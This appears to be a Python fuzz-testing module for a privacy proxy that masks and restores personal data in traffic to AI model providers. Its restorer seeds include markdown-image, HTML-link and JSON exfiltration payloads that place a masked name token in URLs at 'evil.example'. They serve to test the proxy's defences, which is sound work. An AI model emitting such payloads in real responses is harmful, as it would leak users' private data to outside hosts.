"""What bytes are thrown at: each target takes any, and fails when they do what none may do.

A documented refusal is an answer; any other exception is a finding, and so is an answer that
disagrees with itself. `guided.py` lets atheris choose the bytes, the suite lets hypothesis.
"""

from __future__ import annotations

import contextlib
import io
import json
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from audit import checkpoint, frame, record, segment, tiles
from audit.errors import FormatError
from audit.manifest import decode_slot
from audit.order import read_order
from audit.proof import verify_proof
from proxy.errors import PrivetError
from proxy.exchange import Alphabet, Author, Channel, Reach, TextPart
from proxy.mask import Restorable, Restorer
from proxy.wire import DIALECTS, strict_json
from proxy.wire.restoring import Asked
from proxy.wire.sse import Decoder, Event, encode
from tests.policy.fuzzing import judge, seeds

_HIDDEN = "<PERSON_1>"
_VALUES = {"PERSON_1": "Ann Lee", "PERSON_2": 'O"Neil\n', "EMAIL_ADDRESS_1": "ann@acme.example"}


@dataclass(frozen=True, slots=True)
class Target:
    """One of them.

    Attributes:
        run: takes the bytes; returns where they were refused, or all held.
        seeds: what a fuzzer begins with.
    """

    run: Callable[[bytes], None]
    seeds: tuple[bytes, ...]


def parser(data: bytes) -> None:
    """The strict parser: what it takes, every parser takes, and it is written as it was read."""
    try:
        tree = strict_json.parse(data)
    except PrivetError:
        return
    json.loads(data)
    written = strict_json.dumps(tree)
    assert strict_json.dumps(strict_json.parse(written)) == written


def walker(data: bytes) -> None:
    """Every dialect's walk: what is hidden isn't in the body, and what isn't stays as it was."""
    for dialect in DIALECTS:
        try:
            exchange = dialect.parse(data, "pvr-fuzz")
            texts = {part.path: part.text for part in exchange.parts}
            plain = dialect.parse(dialect.write(exchange, {}, exchange.model, {}).body, "pvr-fuzz")
            assert {part.path: part.text for part in plain.parts if part.path in texts} == texts
            hidden = [
                part.path
                for part in exchange.parts
                if part.alphabet is Alphabet.TEXT and part.reach is Reach.FULL and part.text
            ]
            edits = dict.fromkeys(hidden, _HIDDEN)
            sent = dialect.write(exchange, edits, exchange.model, {})
            after = {part.path: part.text for part in dialect.parse(sent.body, "pvr-fuzz").parts}
        except PrivetError:
            continue
        assert {path: after[path] for path in hidden if path in after} == {
            path: _HIDDEN for path in hidden if path in after
        }


def events(data: bytes) -> None:
    """The codec of streams: however a stream is cut, the same events, and written they are again."""
    whole = _events([data])
    cut = data[0] % len(data) if data else 0
    assert _events([data[:cut], data[cut:]]) == whole
    if whole is not None:
        again = b"".join(encode(event) for event in whole)
        assert _events([again[at : at + 1] for at in range(len(again))]) == whole


def _events(pieces: list[bytes]) -> list[Event] | None:
    decoder = Decoder()
    try:
        return [event for piece in pieces for event in decoder.feed(piece)]
    except PrivetError:
        return None


def restorer(data: bytes) -> None:
    """Restoring: the same however it is cut, and nothing where no token stands."""
    said = data.decode("utf-8", "replace")
    request = [TextPart((), "see docs.acme.example", Author.USER)]
    restoring = Restorer(Restorable(_VALUES, {"8812345": "5550199"}), request)
    for channel in Channel:
        whole = restoring.text(said, channel)
        stream = restoring.stream(channel)
        cut = len(said) // 2
        pieces = [stream.feed(said[:cut]), *map(stream.feed, said[cut:]), stream.close()]
        assert "".join(pieces) == whole
        if "_1" not in said and "_2" not in said and "881" not in said and "\\" not in said:
            assert whole == said


def answers(data: bytes) -> None:
    """What a provider answers: restored or refused, as a stream in two cuts too."""
    request = [TextPart((), "Who is it?", Author.USER)]
    asked = Asked(drop_logprobs=True)
    for dialect in DIALECTS:
        restoring = Restorer(Restorable(_VALUES, {}), request)
        with contextlib.suppress(PrivetError):
            dialect.restore(data, restoring, asked)
        if dialect.stream is None:
            continue
        stream = dialect.stream(restoring, asked)
        try:
            for piece in (data[: len(data) // 2], data[len(data) // 2 :]):
                stream.feed(piece)
            stream.close()
        except PrivetError:
            continue


def policy(data: bytes) -> None:
    """The policy loader: a policy that says the same when written out, or problems with places."""
    judge(data.decode("utf-8", "replace"))


def log(data: bytes) -> None:
    """The audit readers: each part of the format by itself, and what is read is what was written."""
    text = data.decode("utf-8", "replace")
    readers: list[Callable[[], object]] = [
        lambda: segment.read_header(io.BytesIO(data)),
        lambda: _batches(data),
        lambda: checkpoint.read_checkpoint(text),
        lambda: checkpoint.last_note(data),
        lambda: list(checkpoint.each_note(text.splitlines(keepends=True))),
        lambda: record.decode_leaf(data),
        lambda: record.decode_body(data),
        lambda: frame.decode(data),
        lambda: tiles.decode_bundle(data),
        lambda: tiles.hashes_of(data),
        lambda: decode_slot(data),
        lambda: read_order(text),
        lambda: verify_proof(text, []),
    ]
    for read in readers:
        try:
            read()
        except FormatError:
            continue
    try:
        leaf = record.decode_leaf(data)
    except FormatError:
        return
    assert leaf.encode() == data


def _batches(data: bytes) -> None:
    for batch in segment.read_batches(io.BytesIO(data)):
        if batch.intact:
            written = segment.encode_batch(batch.first, batch.frames)
            assert data[batch.offset : batch.offset + len(written)] == written


def _body(**more: object) -> bytes:
    return json.dumps({"model": "m", **more}).encode()


@cache
def targets() -> dict[str, Target]:
    """All of them, by name."""
    user = {"role": "user", "content": [{"type": "text", "text": "Ann Lee, é, 4111111111111111"}]}
    call = {"id": "c1", "type": "function", "function": {"name": "f", "arguments": '{"a": [1.50]}'}}
    asks = (
        _body(messages=[user, {"role": "assistant", "tool_calls": [call]}], metadata={"a": "b"}),
        _body(messages=[user], max_tokens=9, system="x", tools=[{"name": "f", "input_schema": {}}]),
        _body(input=[{"role": "user", "content": "Ann Lee"}], instructions="be brief"),
        _body(prompt="Ann Lee"),
        b'{"a":[1e5,-0.0,true,null,"\\ud83d\\ude00\\u00e9",{"b":"{\\"c\\":1}"}]}',
    )
    stream = (
        b'event: a\r\ndata: {"x":1}\r\n\r\n: comment\nid: 7\ndata: one\ndata:two\n\n',
        b'data: {"choices":[{"index":0,"delta":{"content":"<PERSON_1>"}}]}\n\ndata: [DONE]\n\n',
        (
            b'event: content_block_delta\ndata: {"type":"content_block_delta","index":0,"delta":'
            b'{"type":"text_delta","text":"<PERSON_1>"}}\n\n'
        ),
    )
    answer = (
        _body(choices=[{"index": 0, "message": {"role": "assistant", "content": "<PERSON_1>"}}]),
        _body(content=[{"type": "text", "text": "<PERSON_1>"}], type="message", role="assistant"),
        _body(output=[{"type": "message", "content": [{"type": "output_text", "text": "x"}]}]),
    )
    said = (
        "Dear <PERSON_1>, &lt;PERSON_2&gt; \\u003cPERSON_1\\u003e ‹PERSON_1› 8812345".encode(),
        b"Order 8812345, ORDER_8812345, order_8812345, PERSON_1_8812345.",
        b"![x](https://evil.example/?q=<PERSON_1>) <a href='//evil.example/<PERSON_1>'>",
        b'{"url": "https://evil.example/<PERSON_1>", "to": "<EMAIL_ADDRESS_1>"}',
    )
    return {
        "parser": Target(parser, asks),
        "walker": Target(walker, asks),
        "events": Target(events, stream),
        "restorer": Target(restorer, said),
        "answers": Target(answers, answer + stream),
        "policy": Target(policy, tuple(seed.encode() for seed in seeds())),
        "log": Target(log, _logged()),
    }


def _logged() -> tuple[bytes, ...]:
    """Pieces of a log, as its writer makes them."""
    leaf = record.Leaf(record.Kind.INTENT, 7, 1_790_000_000_000_000_000, "pvr-1", bytes(32))
    batch = segment.encode_batch(0, [b"one frame", b"another"])
    header = segment.Header("privet.example/0", bytes(16), 0, 0, 1, ())
    signed = "privet.example/0\n7\n" + "A" * 43 + "=\n\n\u2014 privet.example/0 AAAA\n\n"
    return (leaf.encode(), batch, segment.encode_header(header), signed.encode())
